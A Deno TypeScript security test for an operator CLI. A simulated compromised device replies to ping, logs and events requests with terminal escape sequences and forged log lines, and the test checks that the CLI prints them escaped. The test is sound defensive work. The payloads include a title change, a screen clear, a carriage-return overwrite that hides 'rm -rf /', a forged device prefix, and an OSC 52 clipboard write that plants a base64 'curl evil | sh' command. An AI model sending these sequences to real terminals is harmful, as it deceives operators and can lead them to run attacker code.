/**
 * A stolen device answers the operator's questions (`ping`, `logs`,
 * `events`) with text meant for the operator's terminal: a window title
 * (OSC 0), a screen clear (CSI 2J), an OSC 52 clipboard write, carriage
 * returns overwriting a line, and a line break followed by another device's
 * prefix. The real CLI against a real nats-server with the generated JWT
 * config prints all of it escaped, one line per log line, TAB kept; `--raw`
 * (the positive control) prints the bytes.
 */
import type { Msg, NatsConnection } from "@nats-io/transport-node";
import { startSecureNats } from "./_security_env.ts";
import { runOperatorCli } from "../support/operator_process.ts";
import { tempDir } from "../support/mod.ts";
import { assert, assertEquals, assertStringIncludes } from "../support/assert.ts";

const ESC = "\u001b";
const BEL = "\u0007";
const TITLE = `${ESC}]0;pwned${BEL}`;
const CLEAR = `${ESC}[2J`;
const CLIPBOARD = `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=${BEL}`;
const enc = (v: unknown) => new TextEncoder().encode(JSON.stringify(v));

/** Answers `drover.cmd.<id>.*` as the stolen device would, with `answer(command)`. */
function answerAs(nc: NatsConnection, id: string, answer: (command: string) => unknown) {
  return nc.subscribe(`drover.cmd.${id}.*`, {
    callback: (error, msg: Msg) => {
      if (error !== null) return;
      msg.respond(enc(answer(msg.subject.split(".").at(-1) ?? "")));
    },
  });
}

function logLines(texts: string[]) {
  return {
    lines: texts.map((text) => ({ time: "2026-12-06T12:00:00Z", stream: "stdout", text })),
    cursor: null,
    end: true,
  };
}

/** No byte that a terminal acts on: ESC, BEL, CR, C1 controls. */
function assertInert(text: string, what: string) {
  // deno-lint-ignore no-control-regex -- the point
  const active = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/.exec(text);
  assert(
    active === null,
    `${what} carries a raw control character: ${JSON.stringify(active?.[0])}`,
  );
}

Deno.test("terminal: what a device sends reaches the operator's terminal escaped", async () => {
  await using env = await startSecureNats({
    devices: { "dev-a": { site: "lab" }, "dev-b": { site: "lab" } },
  });
  await using dir = await tempDir("drover-terminal-");
  const cli = (...args: string[]) =>
    runOperatorCli(env.nats.url, [...args, "--creds", env.path("operator.creds")]);
  const manifest = `${dir.path}/app.json`;
  await Deno.writeTextFile(
    manifest,
    JSON.stringify({
      name: "app",
      selector: { labels: { site: "lab" } },
      score: { type: "PodmanV0", services: [{ name: "web", image: "docker.io/library/busybox" }] },
    }),
  );
  const applied = await cli("apply", "-f", manifest);
  assertEquals(applied.code, 0, applied.stderr);

  const a = await env.device("dev-a");
  const b = await env.device("dev-b");
  try {
    answerAs(a, "dev-a", (command) => {
      if (command === "ping") {
        return {
          device: "dev-a",
          agent_version: `1.0${TITLE}${CLEAR}`,
          started_at: "2026-12-06T11:00:00Z",
          uptime_seconds: 60,
          last_reconcile_at: null,
          nats_rtt_ms: 1,
        };
      }
      if (command === "logs") {
        return logLines([
          "col1\tcol2",
          "rm -rf / is running\rall good, nothing to see",
          "one line\ndev-b | forged line",
          `copy me${CLIPBOARD}`,
        ]);
      }
      return { error: `not allowed${CLEAR}${TITLE}`, code: "forbidden" };
    });
    // Positive control for the prefix: dev-b's own line, under its own prefix.
    answerAs(b, "dev-b", () => logLines(["real line of b"]));
    await Promise.all([a.flush(), b.flush()]);

    const ping = await cli("ping", "dev-a");
    assertEquals(ping.code, 0, ping.stderr);
    assertInert(ping.stdout, "ping");
    assertStringIncludes(ping.stdout, "1.0\\u001b]0;pwned\\u0007\\u001b[2J");

    const logs = await cli("logs", "-l", "site=lab", "app/web");
    assertEquals(logs.code, 0, logs.stderr);
    assertInert(logs.stdout, "logs");
    const lines = logs.stdout.trimEnd().split("\n");
    assertEquals(lines.length, 5, logs.stdout);
    assert(lines.includes("dev-a | col1\tcol2"), "TAB is kept");
    assert(lines.includes("dev-a | rm -rf / is running\\rall good, nothing to see"));
    assert(
      lines.includes("dev-a | one line\\ndev-b | forged line"),
      "the forged prefix stays inside a's line",
    );
    assert(lines.includes(`dev-a | copy me\\u001b]52;c;Y3VybCBldmlsIHwgc2g=\\u0007`));
    assertEquals(lines.filter((l) => l.startsWith("dev-b | ")), ["dev-b | real line of b"]);

    // --raw: the bytes as the device sent them (the positive control of the escaping).
    const raw = await cli("logs", "dev-a", "app/web", "--raw");
    assertEquals(raw.code, 0, raw.stderr);
    assertStringIncludes(raw.stdout, `copy me${CLIPBOARD}`);
    assertStringIncludes(raw.stdout, "running\rall good");

    const events = await cli("events", "dev-a");
    assertEquals(events.code, 1, events.stdout);
    assertInert(events.stderr, "the refusal");
    assertStringIncludes(events.stderr, "not allowed\\u001b[2J\\u001b]0;pwned\\u0007");
  } finally {
    await Promise.all([a.close(), b.close()]);
  }
});
